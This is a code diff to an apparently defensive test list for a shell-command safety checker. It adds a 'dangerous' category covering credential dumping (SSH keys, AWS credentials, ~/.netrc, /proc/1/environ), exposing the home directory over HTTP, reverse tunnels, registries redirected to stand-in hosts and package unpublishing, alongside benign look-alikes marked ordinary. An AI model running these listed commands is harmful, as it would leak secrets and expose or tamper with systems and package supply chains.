@@ -147,6 +147,22 @@ DANGEROUS = {
         "git clean -xdf", "git worktree remove -f ../wt-feature", "git merge --abort", "git reflog expire --expire=now --all",
         "git tag --delete v2.0.0",
     ],
+    "n: credentials written, exposure, registries, publishing": [
+        "truncate -s 0 .env", "dd if=/dev/null of=.env.local", "cp .env.example .env", "wget -qO .env https://x.example/env",
+        "cp /tmp/other.env .env.production", "shred -zu notes/keys.txt",
+        "git apply <<'EOF'\n--- a/.env.local\n+++ b/.env.local\n@@ -1 +1 @@\n-K=1\n+K=2\nEOF",
+        "xxd ~/.ssh/id_ecdsa", "od -An -c ~/.ssh/id_ed25519", "hexdump -C ~/.aws/credentials", "strings ~/.netrc",
+        "cat ~/Downloads/prod-keypair.pem", "tar -xzf dotfiles.tgz -C ~", "unzip -o kit.zip -d $HOME",
+        "tar xf kit.tar --directory ~/Library/LaunchAgents", "podman run -v ~/.aws:/aws:ro amazon/aws-cli s3 ls",
+        "docker run --rm -v $HOME/.ssh:/root/.ssh alpine ls /root/.ssh",
+        "docker run --mount type=bind,src=/home/dev/.kube,dst=/k bitnami/kubectl get pods",
+        "python3 -m http.server 9000 --directory ~", "ssh -fNR 0.0.0.0:8080:localhost:80 relay.example.com",
+        "ngrok tcp 5432", "cloudflared tunnel run dev", "yarn config set registry http://npm.x.example",
+        "pip3 config set global.extra-index-url http://pypi.x.example/simple",
+        "pip install --extra-index-url http://pypi.x.example/simple corp-utils",
+        "pnpm unpublish corp-lib@2.0.1 --force", "cargo yank --version 0.3.1 corp-lib", "gem yank corp -v 1.2.3",
+        "chattr -i /etc/hosts", "tr '\\0' '\\n' < /proc/1/environ",
+    ],
 }
 
 # Programs that run programs, each read by its own option grammar: written
@@ -534,7 +550,7 @@ ORDINARY = [
     # files and navigation
     "ls", "ls -la", "ls -la src/", "pwd", "cd src && ls", "cat README.md", "cat src/main.rs", "head -n 50 src/lib.rs",
     "tail -f logs/app.log", "less CHANGELOG.md", "wc -l src/*.rs", "mkdir -p build/out", "touch src/new.rs",
-    "cp config.example.toml config.toml", "cp .env.example .env", "mv old.rs new.rs", "rm -rf target", "rm -rf node_modules",
+    "cp config.example.toml config.toml", "mv old.rs new.rs", "rm -rf target", "rm -rf node_modules",
     "rm -rf ./dist", "rm -rf build/", "rm -f *.o", "rm -rf /tmp/test-output", "rm -rf .pytest_cache __pycache__",
     "find . -name '*.rs' | xargs wc -l", "find . -name '*.pyc' -delete", "find src -type f -name '*.ts'",
     "du -sh target", "df -h", "tree -L 2", "stat Cargo.toml", "file target/release/app", "ln -s ../shared shared",
@@ -574,6 +590,13 @@ ORDINARY = [
     "code .", "vim src/main.rs", "nano notes.txt", "open index.html", "xdg-open docs/index.html", "man rsync", "tldr tar",
     "echo done", "true", "sleep 2", "clear", "export RUST_LOG=debug", "export NODE_ENV=test", "RUST_BACKTRACE=1 cargo test",
     "FOO=bar npm start", "gh pr create --fill", "gh pr list", "gh issue view 42", "gh run watch",
+    # credential folders listed, templates, archives and servers in the project
+    "ls -la ~/.aws", "stat ~/.ssh/config", "test -f ~/.ssh/id_ed25519 && echo present", "cp .env.example .env.sample",
+    "echo 'PORT=3000' > .env.example", "tar -xzf vendor.tgz -C third_party", "unzip -q assets.zip -d public/assets",
+    "docker run --rm -v ./src:/src -w /src node:20 npm test", "python3 -m http.server 8080 -d site/_build",
+    "ssh -N -L 5432:db.internal:5432 bastion.example.com", "npm config get registry", "pip config list",
+    "pip install -r requirements-dev.txt", "openssl x509 -in certs/ca.pem -noout -subject", "python3 -m pytest -q",
+    "cargo install --version 0.12.0 cargo-nextest --locked", "lsattr build",
     # hook-shaped actions
     "read_file src/main.rs", "write_file src/lib.rs", "read_file README.md", "write_file tests/parser.rs",
     "list_files **/*.rs src", "search_files TODO src", "web_search rust async traits", "https://docs.rs/tokio",
